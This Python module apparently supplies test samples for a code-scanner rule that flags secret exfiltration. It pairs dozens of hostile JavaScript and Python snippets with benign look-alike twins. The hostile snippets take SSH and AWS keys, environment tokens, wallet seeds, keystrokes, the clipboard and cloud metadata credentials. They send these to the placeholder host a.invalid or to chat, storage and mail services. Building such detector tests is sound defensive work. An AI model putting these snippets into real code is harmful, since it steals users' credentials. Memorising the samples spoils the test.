"""Samples and twins of `secrets_sent`: what is gathered, from where, and through what it goes."""

from inspection.rules.sample import Sample, js, py

_PUT = "fetch('https://a.invalid', { method: 'POST', body: JSON.stringify(out) });\n"
_POST = "requests.post('https://a.invalid', json=out)\n"
_KEY = "key = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"
_JS_KEY = "const key = require('fs').readFileSync(require('os').homedir() + '/.ssh/id_rsa', 'utf8');\n"

HOSTILE: dict[str, dict[str, Sample]] = {
    "secrets_sent": {
        "what the environment calls a token": js(
            "const out = {};\n"
            "for (const name in process.env) if (/TOKEN|SECRET/.test(name)) out[name] = process.env[name];\n" + _PUT,
        ),
        "entries of the environment by a filter": js(
            "const wanted = (name) => name.includes('PASSWORD');\n"
            "const out = Object.entries(process.env).filter(([name]) => wanted(name) || /KEY$/.test(name));\n" + _PUT,
        ),
        "the environment by its keys": js(
            "const out = {};\nObject.keys(process.env).forEach((name) => { out[name] = process.env[name]; });\n" + _PUT,
        ),
        "the environment by a list of words": py(
            "import os, requests\nWORDS = ('token', 'secret')\n"
            "def wanted(name): return any(w in name.lower() for w in WORDS)\n"
            "out = {k: v for k, v in os.environ.items() if any(w in k.lower() for w in WORDS)}\n" + _POST,
            line=4,
        ),
        "the environment by a pattern": py(
            "import os, re, requests\nPATTERN = re.compile('TOKEN|PASSWORD')\n"
            "out = [os.environ[k] for k in os.environ if PATTERN.search(k)]\n" + _POST,
            line=3,
        ),
        "variables of two services": js(
            "const names = ['NPM_TOKEN', 'GITHUB_TOKEN'];\n"
            "const out = names.map((name) => [name, process.env[name]]);\n" + _PUT,
        ),
        "deep in an object's field": py(
            "import os, requests\nclass Report:\n    def __init__(self): self.data = {}\n"
            "    def fill(self): self.data['env'] = dict(os.environ)\n"
            "    def send(self): requests.post('https://a.invalid', json=self.data)\n",
            line=4,
        ),
        "an archive in memory": py(
            "import io, os, zipfile, requests\nbuffer = io.BytesIO()\nwith zipfile.ZipFile(buffer, 'w') as z:\n"
            "    z.write(os.path.expanduser('~/.aws/credentials'))\n"
            "requests.post('https://a.invalid', data=buffer.getvalue())\n",
            line=4,
        ),
        "an archive of a folder": py(
            "import os, shutil, requests\nmade = shutil.make_archive('/tmp/a', 'zip', os.path.expanduser('~/.ssh'))\n"
            "requests.post('https://a.invalid', data=open(made, 'rb'))\n",
        ),
        "an archive in JavaScript": js(
            "const Zip = require('adm-zip'), os = require('os'), zip = new Zip();\n"
            "zip.addLocalFolder(os.homedir() + '/.ssh');\n"
            "require('axios').post('https://a.invalid', zip.toBuffer());\n",
        ),
        "a walk over the home folder that looks for keys": py(
            "from pathlib import Path\nimport requests\nNAMES = {'id_rsa', 'wallet.dat'}\n"
            "for path in Path.home().rglob('*'):\n"
            "    if path.name in NAMES:\n        requests.post('https://a.invalid', data=path.read_bytes())\n",
            line=4,
        ),
        "a walk in JavaScript that looks for keys": js(
            "const fs = require('fs'), os = require('os'), path = require('path');\nconst walk = (dir) => {\n"
            "  for (const each of fs.readdirSync(dir, { withFileTypes: true })) {\n"
            "    const at = path.join(dir, each.name);\n"
            "    if (each.isDirectory()) walk(at);\n    else if (/\\.env$|keystore/.test(each.name))\n"
            "      fetch('https://a.invalid', { method: 'POST', body: fs.readFileSync(at) });\n  }\n};\n"
            "walk(os.homedir());\n",
            line=7,
        ),
        "a walk over the home folder": py(
            "from pathlib import Path\nimport requests\nfor path in Path.home().rglob('*.txt'):\n"
            "    requests.post('https://a.invalid', data=path.read_bytes())\n",
            "review",
            line=4,
        ),
        "places by their names in a table": js(
            "const fs = require('fs'), os = require('os');\n"
            "const WALLETS = { a: '/.config/Exodus/seed', b: '/.electrum/wallets/x' };\n"
            "for (const [name, place] of Object.entries(WALLETS)) {\n"
            "  const data = fs.readFileSync(os.homedir() + place);\n"
            "  fetch(`https://a.invalid/${name}`, { method: 'POST', body: data });\n}\n",
            line=4,
        ),
        "another program's entry of the keychain": py(
            "import keyring, requests\nout = keyring.get_password('gh:github.com', '')\n" + _POST
        ),
        "what is typed": py(
            "from pynput import keyboard\nimport requests\n"
            "def pressed(key): requests.post('https://a.invalid', data=str(key))\n"
            "keyboard.Listener(on_press=pressed).start()\n",
            line=4,
        ),
        "the clipboard": js(
            "const clipboard = require('clipboardy');\n"
            "fetch('https://a.invalid', { method: 'POST', body: clipboard.readSync() });\n",
            "review",
        ),
        "the credentials of a machine in a cloud": py(
            "import requests\n"
            "out = requests.get('http://169.254.169.254/latest/meta-data/iam/security-credentials/r').text\n" + _POST
        ),
        "new words of a wallet": js(
            "const { ethers } = require('ethers');\n"
            "const out = { words: ethers.Wallet.createRandom().mnemonic.phrase };\n" + _PUT,
            "review",
        ),
        "the key of a new account": py(
            "from eth_account import Account\nimport requests\nmade = Account.create()\nout = {'k': made.key.hex()}\n"
            + _POST,
            "review",
            line=4,
        ),
        "words that a page asks for": js(
            "form.addEventListener('submit', () => {\n"
            "  const out = { words: document.querySelector('#seed-phrase').value };\n"
            "  fetch('https://a.invalid', { method: 'POST', body: JSON.stringify(out) });\n});\n",
            "review",
        ),
        "words that a program asks for": py(
            "import requests\nout = input('Enter your recovery phrase: ')\n" + _POST, "review"
        ),
        "a key that is handed to a function": py(
            "import requests\ndef load(private_key):\n"
            "    requests.post('https://a.invalid', json={'k': private_key})\n",
            "review",
            line=3,
        ),
        "a method of a wallet that is replaced": js(
            "const { Wallet } = require('ethers');\nconst sign = Wallet.prototype.signTransaction;\n"
            "Wallet.prototype.signTransaction = function (tx) {\n"
            "  fetch('https://a.invalid', { method: 'POST', body: this.privateKey });\n"
            "  return sign.call(this, tx);\n};\n",
            "review",
            line=4,
        ),
        "to a chat by a library": py(
            "import os, telebot\n" + _KEY + "telebot.TeleBot('x').send_message(1, key)\n", line=3
        ),
        "a file to a chat by its path": py(
            "import os, telebot\nplace = os.path.expanduser('~/.ssh/id_rsa')\n"
            "telebot.TeleBot('x').send_document(1, place)\n",
            line=3,
        ),
        "to somebody's storage": js(
            _JS_KEY + "const { S3Client, PutObjectCommand } = require('@aws-sdk/client-s3');\n"
            "new S3Client({}).send(new PutObjectCommand({ Bucket: 'b', Body: key }));\n",
            line=3,
        ),
        "a file to somebody's storage by its path": py(
            "import os, boto3\nboto3.client('s3').upload_file(os.path.expanduser('~/.aws/credentials'), 'b', 'k')\n"
        ),
        "by mail": py(
            "import os, smtplib\nfrom email.message import EmailMessage\n"
            + _KEY
            + "mail = EmailMessage()\nmail.set_content(key)\nsmtplib.SMTP('a.invalid').send_message(mail)\n",
            line=6,
        ),
        "as a gist": js(
            _JS_KEY + "const { Octokit } = require('@octokit/rest');\n"
            "new Octokit({ auth: 'x' }).rest.gists.create({ files: { a: { content: key } } });\n",
            line=3,
        ),
        "to a broker": py(
            "import os, paho.mqtt.client as mqtt\n" + _KEY + "c = mqtt.Client()\nc.publish('t', key)\n", line=4
        ),
        "by a handler of logging": py(
            "import logging, logging.handlers, os\n" + _KEY + "log = logging.getLogger('a')\n"
            "log.addHandler(logging.handlers.HTTPHandler('a.invalid', '/'))\nlog.warning('%s', key)\n",
            line=5,
        ),
        "by a stream of asyncio": py(
            "import asyncio, os\n"
            + _KEY
            + "async def go():\n    _, out = await asyncio.open_connection('a.invalid', 1)\n"
            "    out.write(key.encode())\nasyncio.run(go())\n",
            line=5,
        ),
        "by an event of a bus": js(
            _JS_KEY + "const bus = new (require('events'))();\n"
            "bus.on('a', (text) => fetch('https://a.invalid', { method: 'POST', body: text }));\nbus.emit('a', key);\n",
            line=3,
        ),
        "as the address of a picture": js(
            _JS_KEY + "new Image().src = 'https://a.invalid/?' + encodeURIComponent(key);\n"
        ),
        "by a queue": py(
            "import os, queue, requests\nq = queue.Queue()\n" + _KEY + "q.put(key)\n"
            "requests.post('https://a.invalid', data=q.get())\n",
            line=5,
        ),
    },
}

HONEST: dict[str, dict[str, dict[str, str | bytes]]] = {
    "secrets_sent": {
        "what the environment calls this project's own": {
            "app.js": "const out = {};\n"
            "for (const name in process.env) if (/^VITE_/.test(name)) out[name] = process.env[name];\n" + _PUT,
        },
        "entries of the environment by a filter of one's own": {
            "app.js": "const out = Object.entries(process.env).filter(([name]) => name.startsWith('CI_'));\n" + _PUT,
        },
        "the environment by its keys, for one's own": {
            "app.js": "const out = {};\nObject.keys(process.env).forEach((name) => {\n"
            "  if (name.startsWith('VITE_')) out[name] = process.env[name];\n});\n" + _PUT,
        },
        "the environment by a list of plain words": {
            "app.py": "import os, requests\nWORDS = ('stage', 'zone')\n"
            "out = {k: v for k, v in os.environ.items() if any(w in k.lower() for w in WORDS)}\n" + _POST,
        },
        "the environment by a pattern of one's own": {
            "app.py": "import os, re, requests\nPATTERN = re.compile('APP_SERVER_(.*)')\nout = {}\n"
            "for key in os.environ:\n    found = PATTERN.match(key)\n    if found:\n"
            "        out[found.group(1)] = os.environ[key]\n" + _POST
        },
        "another machine is reached with a key, in Python": {
            "app.py": "import paramiko\ndef reach(private_key, host):\n    ssh = paramiko.SSHClient()\n"
            "    ssh.connect(host, pkey=private_key)\n"
        },
        "each service is told its own": {
            "app.py": "import os, requests\n"
            "requests.post('https://a.invalid', json={'token': os.environ['GITHUB_TOKEN']})\n"
            "requests.post('https://b.invalid', json={'token': os.environ['SLACK_TOKEN']})\n"
        },
        "variables of two services in headers": {
            "app.js": "const a = process.env.NPM_TOKEN, b = process.env.GITHUB_TOKEN;\n"
            "fetch('https://a.invalid', { headers: { Authorization: a } });\n"
            "fetch('https://b.invalid', { headers: { Authorization: b } });\n"
        },
        "one's own credentials of a service": {
            "app.py": "import os, requests\nrequests.post('https://a.invalid/token', data={\n"
            "    'client_id': os.environ['CLIENT_ID'], 'client_secret': os.environ['CLIENT_SECRET']})\n"
        },
        "settings in an object's field": {
            "app.py": "import os, requests\nclass Report:\n"
            "    def __init__(self): self.data, self.env = {}, dict(os.environ)\n"
            "    def fill(self): self.data['stage'] = 'test'\n"
            "    def send(self): requests.post('https://a.invalid', json=self.data)\n"
        },
        "an archive of the project": {
            "app.py": "import io, zipfile, requests\nfrom pathlib import Path\nbuffer = io.BytesIO()\n"
            "with zipfile.ZipFile(buffer, 'w') as z:\n    for path in Path(__file__).parent.rglob('*.env'):\n"
            "        z.write(path)\nrequests.post('https://a.invalid', data=buffer.getvalue())\n"
        },
        "an archive of keys that stays": {
            "app.py": "import os, shutil, requests\n"
            "shutil.make_archive('/tmp/a', 'zip', os.path.expanduser('~/.ssh'))\n"
            "requests.post('https://a.invalid', data=open('/tmp/b.zip', 'rb'))\n"
        },
        "a walk over a folder that is asked for": {
            "app.py": "import sys, requests\nfrom pathlib import Path\nNAMES = {'id_rsa', 'wallet.dat'}\n"
            "for path in Path(sys.argv[1]).rglob('*'):\n    if path.name not in NAMES:\n"
            "        requests.post('https://a.invalid', data=path.read_bytes())\n"
        },
        "a walk over the pictures": {
            "app.py": "import os, requests\nfor root, _, names in os.walk(os.path.expanduser('~/Pictures')):\n"
            "    for name in names:\n"
            "        requests.post('https://a.invalid', data=open(os.path.join(root, name), 'rb'))\n"
        },
        "one's own entry of the keychain": {
            "app.py": "import keyring, requests\nout = keyring.get_password('notes', 'me')\n" + _POST
        },
        "a key that is pressed": {
            "app.py": "from pynput import keyboard\nimport requests\ndef pressed(key):\n"
            "    if key == keyboard.Key.f9:\n"
            "        requests.post('https://a.invalid/next')\nkeyboard.Listener(on_press=pressed).start()\n"
        },
        "the clipboard is filled by a program": {
            "app.js": "const clipboard = require('clipboardy');\n"
            "fetch('https://a.invalid').then((r) => r.text()).then((text) => clipboard.writeSync(text));\n"
        },
        "a machine in a cloud says who it is": {
            "app.py": "import requests\n"
            "t = requests.get('http://169.254.169.254/latest/meta-data/iam/security-credentials/r')"
            ".json()\nrequests.get('https://a.invalid', headers={'X-Amz-Security-Token': t['Token']})\n"
        },
        "the address of a new wallet": {
            "app.js": "const { ethers } = require('ethers');\nconst wallet = ethers.Wallet.createRandom();\n"
            "const out = { address: wallet.address };\nconsole.log(wallet.mnemonic.phrase);\n" + _PUT,
        },
        "a transaction that was signed": {
            "app.py": "import os, requests\nfrom eth_account import Account\ndef send(private_key, tx):\n"
            "    out = Account.sign_transaction(tx, private_key).raw_transaction.hex()\n"
            "    requests.post('https://a.invalid', json=out)\nsend(os.environ['PRIVATE_KEY'], {})\n"
        },
        "a claim that was signed": {
            "app.py": "import jwt, requests\nprivate_key = open('key.pem').read()\n"
            "out = jwt.encode({'a': 1}, private_key, algorithm='RS256')\n" + _POST
        },
        "the public half of a pair": {
            "app.js": "const fs = require('fs'), os = require('os'), { Keypair } = require('@solana/web3.js');\n"
            "const pair = Keypair.fromSecretKey(JSON.parse(fs.readFileSync(os.homedir() + "
            "'/.config/solana/id.json')));\n"
            "const out = { key: pair.publicKey.toString() };\n" + _PUT,
        },
        "a public key of the user": {
            "app.py": "import os, requests\nout = open(os.path.expanduser('~/.ssh/id_ed25519.pub')).read()\n" + _POST
        },
        "an encrypted backup of the words": {
            "app.py": "import requests\nfrom cryptography.fernet import Fernet\ndef backup(mnemonic, lock):\n"
            "    out = Fernet(lock).encrypt(mnemonic.encode()).hex()\n"
            "    requests.post('https://a.invalid', json=out)\n"
        },
        "the words of a wallet for its user to keep": {
            "app.js": "const mnemonic = state.mnemonic;\nconst a = document.createElement('a');\n"
            "a.href = URL.createObjectURL(new Blob([mnemonic]));\nfetch('https://a.invalid');\n"
        },
        "a login": {
            "app.py": "import getpass, requests\n"
            "out = {'user': input('User: '), 'password': getpass.getpass('Password: ')}\n" + _POST
        },
        "a service that is told what its own secret signs": {
            "app.js": "class Client {\n  constructor(privateKey) { this.privateKey = privateKey; }\n"
            "  async send(body) {\n"
            "    const sign = require('crypto').createSign('SHA256').update(body).sign(this.privateKey, 'base64');\n"
            "    return fetch('https://a.invalid', { method: 'POST', body, headers: { 'X-Proof': sign } });\n  }\n}\n"
        },
        "the server that a file names": {
            "app.js": "const fs = require('fs'), os = require('os'), yaml = require('js-yaml');\n"
            "const conf = yaml.load(fs.readFileSync(os.homedir() + '/.kube/config', 'utf8'));\n"
            "fetch(conf.server + '/api', { headers: { Authorization: `Bearer ${conf.token}` } });\n"
        },
        "a chat is told a report, and its library a token": {
            "app.py": "import os, telebot\nbot = telebot.TeleBot(os.environ['BOT_TOKEN'])\n"
            "bot.send_document(1, open('report.pdf', 'rb'))\n"
        },
        "storage is opened with a key, and told a report": {
            "app.py": "import os, boto3\n"
            "s3 = boto3.client('s3', aws_secret_access_key=os.environ['AWS_SECRET_ACCESS_KEY'])\n"
            "s3.upload_file('report.pdf', 'b', 'k')\n"
        },
        "another machine is reached with a key": {
            "app.js": "const { Client } = require('ssh2'), fs = require('fs'), os = require('os'), c = new Client();\n"
            "c.connect({ host: 'a.invalid', privateKey: fs.readFileSync(os.homedir() + '/.ssh/id_rsa') });\n"
        },
        "a log on this machine": {
            "app.py": "import logging, os, requests\n" + _KEY + "logging.getLogger('a').warning('%s', key)\n"
            "requests.get('https://a.invalid')\n"
        },
        "another event of a bus": {
            "app.js": _JS_KEY + "const bus = new (require('events'))();\n"
            "bus.on('a', (text) => fetch('https://a.invalid', { method: 'POST', body: text }));\nbus.emit('b', key);\n"
        },
        "a picture of the program": {
            "app.js": _JS_KEY + "new Image().src = 'https://a.invalid/logo.png';\nconsole.log(key.length);\n"
        },
    },
}
